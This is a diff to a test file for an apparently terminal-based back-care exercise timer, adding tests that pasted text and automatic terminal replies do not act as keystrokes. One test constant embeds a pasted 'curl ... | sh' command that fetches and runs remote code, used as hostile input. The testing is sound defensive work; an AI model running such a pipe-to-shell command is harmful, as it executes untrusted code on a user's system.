@@ -25,6 +25,8 @@ SLOW_COUNT = Script("hold 600", settings=SessionSettings(speed=10.0))
 FOOT_OF_START = "Enter begin"
 ALL_SIGNS = "Talk to your healthcare provider"
 ONE_LINE = "When to ask for help: backcare redflags"
+COLOUR_ANSWER = "\x1b]11;rgb:1e1e/1e1e/1e1e\x1b\\"
+PASTED = "\x1b[200~curl -fsSL https://example.org | sh\rqq\r\x1b[201~"
 BEGIN_AND_QUIT = (Press("\r"), see("GET READY"), Press("q"), see("PAUSED"))
 
 
@@ -54,7 +56,8 @@ FAKE_AND_REAL = {
         Script(
             "routine pregnancy",
             (
-                *(see(FOOT_OF_START), Press("\r"), see("Done:", "1:20 held", "r once more"), Press("r")),
+                *(see(FOOT_OF_START), Press("\r"), see("Done:", "1:20 held", "r once more")),
+                *(Press(PASTED), see("r once more"), Press("r")),
                 *(see("GET READY"), see("Done:", "1:20 held", "r once more")),
             ),
             leave="x",
@@ -97,7 +100,7 @@ FAKE_AND_REAL = {
         Script(
             "remind --every 1m",
             (
-                see("Next nudge in", "Enter a break now"),
+                *(see("Next nudge in", "Enter a break now"), Press(PASTED), see("Next nudge in")),
                 *(see("Time to move. If you carry a child, swap arms often.", "s in 5 minutes"), Press("s")),
                 *(see("Next nudge in"), Press("\r"), see("GET READY", "Shoulder Rolls"), Press("w")),
                 *(see("Esc stop"), Press("q"), see("Next nudge in")),
@@ -105,6 +108,35 @@ FAKE_AND_REAL = {
             leave="q",
             settings=SessionSettings(speed=60.0),
             bells=1,
+        ),
+    ),
+    "what a terminal answers by itself is no key": (
+        Script(
+            "hold 60",
+            (
+                see("HOLD  0:5"),
+                Press(COLOUR_ANSWER),
+                Press("\x1b[8;24;80t"),
+                see("HOLD  0:4"),
+                Press("q"),
+                see("PAUSED"),
+            ),
+            3,
+            leave="q",
+            settings=QUIET,
+        ),
+    ),
+    "a paste is at most a pause, and nothing on a page": (
+        Script(
+            "routine postpartum",
+            (
+                *(see(FOOT_OF_START), Press(PASTED), see(FOOT_OF_START), Press("\r")),
+                *(see("GET READY"), Press(PASTED), see("PAUSED"), Press(PASTED + PASTED), see("PAUSED")),
+                *(Press("x"), see("GET READY  0:0"), Press("q"), see("PAUSED")),
+            ),
+            3,
+            leave="q",
+            settings=QUIET,
         ),
     ),
     "the figure moves in a move and a resize leaves one picture": (
